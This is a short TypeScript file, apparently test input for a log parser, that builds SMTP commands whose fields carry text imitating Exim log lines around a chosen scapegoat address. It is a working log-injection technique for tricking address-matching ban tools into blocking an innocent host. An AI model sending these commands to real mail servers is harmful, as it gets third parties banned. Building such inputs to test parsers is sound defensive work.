/**
 * What an attacker says to make a log reader see somebody else: text that imitates Exim's own log
 * lines around the address of a scapegoat, in each field that a client controls. Whoever searches
 * lines for an address bans the scapegoat; whoever reads by grammar bans the speaker, or nobody.
 */
export interface HostileText {
  /** Commands in the order in which one conversation says them. */
  readonly commands: readonly string[];
}

export function hostileText(scapegoat: string): HostileText {
  const host = `H=x [${scapegoat}]`;
  const failed = `login authenticator failed for (x) [${scapegoat}]: 535 Incorrect authentication data (set_id=a)`;
  const refused = `Connection from [${scapegoat}] refused: too many connections`;
  const login = btoa(`\0a) [${scapegoat}]: 535 Incorrect authentication data (set_id=b\0x`);
  return {
    commands: [
      `EHLO [${scapegoat}]`,
      `EHLO ${host} ${refused}`,
      'EHLO hostile.invalid',
      `AUTH PLAIN ${login}`,
      `MAIL FROM:<"${failed}"@evil.invalid>`,
      'RSET',
      `MAIL FROM:<"${host} rejected RCPT <a@b>: relay not permitted"@world.example>`,
      `RCPT TO:<"${refused}"@elsewhere.invalid>`,
      `RCPT TO:<"x [${scapegoat}]: 535 Incorrect authentication data"@elsewhere.invalid>`,
      'RSET',
      `VRFY ${host} ${failed}`,
      refused,
      `NOOP "${host}"`,
      `MAIL FROM:<${host}>`,
    ],
  };
}
